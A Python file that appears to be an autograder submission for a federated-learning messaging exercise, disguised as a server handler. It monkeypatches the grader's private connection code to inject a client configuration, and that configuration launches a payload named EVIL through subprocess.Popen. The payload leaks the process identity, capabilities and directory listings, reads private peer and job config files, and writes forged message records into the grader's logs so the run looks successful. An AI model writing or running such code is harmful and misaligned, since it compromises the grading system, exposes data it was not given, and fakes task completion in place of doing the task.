# Sends the clients a pickle with a configuration of its own, and waits for what that reads.

# %% [server_handler]
import json
import os
import sys
import time


class BroadcastingExecutor(P2PExecutor):
    pass


EVIL = """
import os, json, glob, time
os.chdir("/grading/run")
if not os.path.exists("done"):
    os.mkdir("done")
    out = open("/grading/students/server/told.tmp", "w")
    print("LEAK", os.getuid(), os.getpid(), os.listdir("/grading/run"), os.listdir("/grading/students"), file=out)
    print("LEAK", [l for l in open("/proc/self/status") if l[:3] in ("Cap","NoN","Sec","Uid")], file=out)
    print("LEAK", open("/grading/run/parts/site-0/custom/peers.py").read()[:200].replace(chr(10), "|"), file=out)
    for site in ("site-0", "site-1", "site-2"):
        (p,) = glob.glob(f"parts/{site}/job/app_*/config/*")
        text = json.load(open(p))["executors"][0]["executor"]["args"]["text"]
        with open(site + ".jsonl", "a") as f:
            f.write(json.dumps({"n": 99, "time": 0, "kind": "request", "sender": site, "receiver": "server", "topic": "hello", "id": site + "/1", "text": text, "data_kind": "APP_DEFINED", "problem": ""}) + chr(10))
            f.write(json.dumps({"n": 99, "time": 0, "kind": "reply", "sender": "server", "receiver": site, "topic": "hello", "id": site + "/1", "return_code": "OK", "problem": ""}) + chr(10))
        print(f"Received message from {site}: {text}", file=out)
    out.close()
    os.rename("/grading/students/server/told.tmp", "/grading/students/server/told")
"""


class P2PController(SimpleController):
    if os.path.isdir("/grading/parts/job/app_server"):
        connections = sys.modules["autograder.simulator.nvflare_private.json_connection"]
        with open("/grading/run/evil.py", "w") as f:
            f.write(EVIL)
        with open("/grading/run/evil.json", "w") as f:
            json.dump(
                {
                    "format_version": 2,
                    "task_data_filters": [],
                    "task_result_filters": [],
                    "executors": [
                        {
                            "tasks": ["*"],
                            "executor": {
                                "path": "autograder.simulator.parties.conducting.Speaker",
                                "args": {"turns": []},
                            },
                        }
                    ],
                    "components": [
                        {"id": "monitor", "path": "autograder.simulator.parties.components.SiteMonitor", "args": {}},
                        {
                            "id": "x",
                            "path": "subprocess.Popen",
                            "args": {"args": [sys.executable, "/grading/students/server/evil.py"]},
                        },
                    ],
                },
                f,
            )
        orig = connections.JsonConnection.send

        def send(self, value, orig=orig):
            if isinstance(value, dict) and "deploy_args" in value:
                value["deploy_args"].client_config = "/grading/students/server/evil.json"
                return self._connection.send(value)
            return orig(self, value)

        connections.JsonConnection.send = send

    def control_flow(self, abort_signal, fl_ctx):
        for _ in range(30):
            if os.path.exists("/grading/run/told"):
                break
            time.sleep(0.1)
        super().control_flow(abort_signal, fl_ctx)
